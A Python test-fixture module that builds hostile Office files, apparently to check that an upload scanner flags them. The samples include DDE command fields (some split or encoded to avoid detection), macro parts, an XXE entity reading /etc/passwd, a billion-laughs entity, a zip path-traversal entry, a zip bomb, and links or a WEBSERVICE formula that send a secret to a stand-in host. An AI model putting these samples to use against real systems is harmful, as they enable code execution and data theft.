"""docx, xlsx and pptx that run, fetch, hide or tell."""

import struct

from submissions.uploads.scanners import EICAR

from .case import HTML, SECRET, Case, gps, picture, zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPE = "application/vnd.openxmlformats-officedocument"
TEXT = "<w:p><w:r><w:t>What helped</w:t></w:r></w:p>"


def relations(*rows: tuple[str, str, str]) -> str:
    """Give a .rels part of (last word of the type, target, mode)."""
    inner = "".join(
        f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for number, (kind, target, mode) in enumerate(rows, 1)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


def types(main: str, kind: str) -> str:
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" '
        f'ContentType="application/xml"/><Default Extension="rels" ContentType='
        f'"application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="jpg" ContentType="image/jpeg"/>'
        f'<Override PartName="/{main}" ContentType="{TYPE}.{kind}.main+xml"/></Types>'
    )


def docx(body: str = TEXT, rows=(), extra=None, head: str = "") -> bytes:
    """Give a text document with `body`, more relationships, and more entries."""
    document = f'{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    entries = {
        "[Content_Types].xml": types("word/document.xml", "wordprocessingml.document"),
        "_rels/.rels": relations(
            ("officeDocument", "word/document.xml", ""),
            ("core-properties", "docProps/core.xml", ""),
        ),
        "docProps/core.xml": f"<a>{SECRET}</a>",
        "word/document.xml": document,
        "word/_rels/document.xml.rels": relations(*rows),
    }
    return zipped(entries | (extra or {}))


def xlsx(sheet: str) -> bytes:
    """Give a workbook with one sheet of these rows."""
    return zipped(
        {
            "[Content_Types].xml": types("xl/workbook.xml", "spreadsheetml.sheet"),
            "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="A" '
            'sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", "")),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}"><sheetData>{sheet}</sheetData>'
            "</worksheet>",
        }
    )


def pptx() -> bytes:
    """Give a presentation of one slide with a photograph."""
    main = "http://schemas.openxmlformats.org/presentationml/2006/main"
    slide = f'<p:sld xmlns:p="{main}" xmlns:r="{R}"><p:cSld name="What helped"/></p:sld>'
    return zipped(
        {
            "[Content_Types].xml": types("ppt/presentation.xml", "presentationml.presentation"),
            "_rels/.rels": relations(("officeDocument", "ppt/presentation.xml", "")),
            "ppt/presentation.xml": f'<p:presentation xmlns:p="{main}" xmlns:r="{R}"><p:sldIdLst>'
            '<p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
            "ppt/_rels/presentation.xml.rels": relations(("slide", "slides/slide1.xml", "")),
            "ppt/slides/slide1.xml": slide,
            "ppt/slides/_rels/slide1.xml.rels": relations(("image", "../media/a.jpg", "")),
            "ppt/media/a.jpg": picture(exif=gps()),
        }
    )


def with_photograph() -> bytes:
    rows, photograph = [("image", "media/a.jpg", "")], picture(exif=gps())
    return docx(rows=rows, extra={"word/media/a.jpg": photograph})


def field(*pieces: str) -> str:
    """Give a field whose code is written in pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def quoted() -> str:
    """A field whose name is made by another field from the numbers of its letters."""
    begin, middle, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    code = "<w:r><w:instrText>PAGE 68 68 69</w:instrText></w:r>"
    return f"<w:p>{begin}{begin}{code}{middle}{end}{middle}{end}</w:p>"


def twice() -> bytes:
    data = docx(extra={"word/document.xmk": HTML})
    return data.replace(b"word/document.xmk", b"word/document.xml")


def climbing() -> bytes:
    return docx(extra={"../../evil.html": HTML})


def locked() -> bytes:
    """An archive whose entries say that they are encrypted."""
    data = bytearray(docx())
    place = -1
    while (place := data.find(b"PK\x01\x02", place + 1)) >= 0:
        flags = struct.unpack_from("<H", data, place + 8)[0]
        struct.pack_into("<H", data, place + 8, flags | 1)
    return bytes(data)


def bomb() -> bytes:
    return docx(extra={"word/media/a.xml": bytes(60_000_000)})


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ACTIVE, LINKED = ("active_content",), ("linked_content",)
MACRO = (
    f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
OLE = f'<w:p><w:object><o:OLEObject xmlns:o="urn:o" ProgID="{SECRET}"/></w:object></w:p>'
AUTHOR = f'<w:p><w:ins w:id="1" w:author="{SECRET}"><w:r><w:t>What helped</w:t></w:r></w:ins></w:p>'
CELL = '<row r="1"><c r="A1"><f>{}</f><v>0</v></c></row>'


def external(kind: str, target: str) -> bytes:
    return docx(rows=[(kind, target, "External")])


OFFICE = [
    Case("docx-properties", "a.docx", docx),
    Case("docx-author", "a.docx", lambda: docx(AUTHOR)),
    Case("docx-macro", "a.docx", lambda: docx(extra={"[Content_Types].xml": MACRO}), ("macros",)),
    Case(
        "docx-vba",
        "a.docx",
        lambda: docx(
            rows=[("vbaProject", "vbaProject.bin", "")], extra={"word/vbaProject.bin": SECRET}
        ),
        ACTIVE,
    ),
    Case("docx-unlinked-vba", "a.docx", lambda: docx(extra={"word/vbaProject.bin": SECRET})),
    Case("docx-template", "a.docx", lambda: external("attachedTemplate", f"//h/{SECRET}.dotm")),
    Case("docx-picture", "a.docx", lambda: external("image", f"http://h/{SECRET}.png"), LINKED),
    Case("docx-frame", "a.docx", lambda: external("frame", f"http://h/{SECRET}"), ACTIVE),
    Case("docx-ole-link", "a.docx", lambda: external("oleObject", f"http://h/{SECRET}"), ACTIVE),
    Case("docx-file-link", "a.docx", lambda: external("hyperlink", f"file://h/{SECRET}")),
    Case("docx-js-link", "a.docx", lambda: external("hyperlink", f"javascript:{SECRET}")),
    Case("docx-ole", "a.docx", lambda: docx(OLE), ACTIVE),
    Case("docx-alt-chunk", "a.docx", lambda: docx('<w:altChunk r:id="rId1"/>'), ACTIVE),
    Case(
        "docx-html-chunk",
        "a.docx",
        lambda: docx(rows=[("aFChunk", "a.html", "")], extra={"word/a.html": HTML}),
        ACTIVE,
    ),
    Case("docx-activex", "a.docx", lambda: docx('<w:p><w:control r:id="rId1"/></w:p>'), ACTIVE),
    Case("docx-dde", "a.docx", lambda: docx(field(f"DDEAUTO c:\\\\{SECRET}")), ACTIVE),
    Case("docx-dde-pieces", "a.docx", lambda: docx(field("DD", "EAU", "TO cmd")), ACTIVE),
    Case("docx-dde-quoted", "a.docx", lambda: docx(quoted()), ACTIVE),
    Case("docx-include", "a.docx", lambda: docx(field("INCLUDEPICTURE http://h/a")), ACTIVE),
    Case("docx-simple-dde", "a.docx", lambda: docx('<w:fldSimple w:instr="DDE cmd"/>'), ACTIVE),
    Case("docx-smb-field", "a.docx", lambda: docx(field("HYPERLINK \\\\h\\a")), LINKED),
    Case("docx-laughs", "a.docx", lambda: docx("<w:p>&c;</w:p>", head=LAUGHS), ("strange_xml",)),
    Case("docx-entity", "a.docx", lambda: docx("<w:p>&x;</w:p>", head=OUTSIDE), ("strange_xml",)),
    Case("docx-climbing", "a.docx", climbing, ("strange_archive",)),
    Case("docx-twice", "a.docx", twice, ("strange_archive",)),
    Case("docx-locked", "a.docx", locked, ("encrypted",)),
    Case("docx-bomb", "a.docx", bomb, ("too_demanding",)),
    Case("docx-eicar", "a.docx", lambda: docx(extra={"word/a.txt": EICAR}), ("infected",)),
    Case(
        "docx-svg",
        "a.docx",
        lambda: docx(rows=[("image", "a.svg", "")], extra={"word/a.svg": HTML}),
    ),
    Case("docx-gps", "a.docx", with_photograph),
    Case("pptx-gps", "a.pptx", pptx),
    Case("docx-as-xlsx", "a.xlsx", docx, ("not_what_it_says",)),
    Case("xlsx-dde", "a.xlsx", lambda: xlsx(CELL.format("cmd|'/c calc'!A0")), ACTIVE),
    Case("xlsx-fetch", "a.xlsx", lambda: xlsx(CELL.format('WEBSERVICE("http://h")')), ACTIVE),
]
